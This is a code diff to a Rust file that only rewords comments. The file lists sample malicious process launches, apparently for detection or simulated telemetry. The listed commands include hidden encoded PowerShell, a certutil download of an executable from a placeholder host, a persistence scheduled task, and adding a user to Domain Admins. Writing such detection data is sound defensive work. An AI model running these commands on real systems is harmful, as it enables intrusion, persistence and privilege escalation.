@@ -2,7 +2,7 @@
 
 use super::super::programs::{Program, program};
 
-/// How a document starts what it should not.
+/// Programs started by malicious documents.
 #[rustfmt::skip] // One program a line.
 pub(super) const MACROS: &[Program] = &[
     program(5, "WINWORD.EXE", "powershell.exe", r"powershell.exe -nop -w hidden -enc <payload>"),
@@ -16,7 +16,7 @@ pub(super) const MACROS: &[Program] = &[
     program(1, "AcroRd32.exe", "cmd.exe", r"cmd.exe /c C:\Users\<user>\AppData\Local\Temp\<hex>.bat"),
 ];
 
-/// The system's own tools, turned against it (LOLBAS).
+/// Misuse of system tools (LOLBAS).
 #[rustfmt::skip] // One program a line.
 pub(super) const LIVING_OFF_THE_LAND: &[Program] = &[
     program(3, "cmd.exe", "certutil.exe", r"certutil -urlcache -split -f http://<site>/<hex>.txt C:\Users\Public\<hex>.exe"),
@@ -34,7 +34,7 @@ pub(super) const LIVING_OFF_THE_LAND: &[Program] = &[
     program(3, "updater.exe", "powershell.exe", r"powershell -w hidden -enc <payload>"),
 ];
 
-/// A look around from a machine that was taken.
+/// Exploration from a compromised machine.
 #[rustfmt::skip] // One program a line.
 pub(super) const DISCOVERY: &[Program] = &[
     program(4, "powershell.exe", "whoami.exe", r#""C:\Windows\system32\whoami.exe" /all"#),
@@ -45,7 +45,7 @@ pub(super) const DISCOVERY: &[Program] = &[
     program(1, "powershell.exe", "schtasks.exe", r"schtasks /create /sc minute /mo <n> /tn Updater /tr C:\Users\Public\<hex>.exe /f"),
 ];
 
-/// A new member of a group, from the command line.
+/// Adding a member to a group from the command line.
 #[rustfmt::skip] // One program a line.
 pub(super) const GRANTS: &[Program] = &[
     program(3, "cmd.exe", "net.exe", r#"net group "Domain Admins" <user> /add /domain"#),
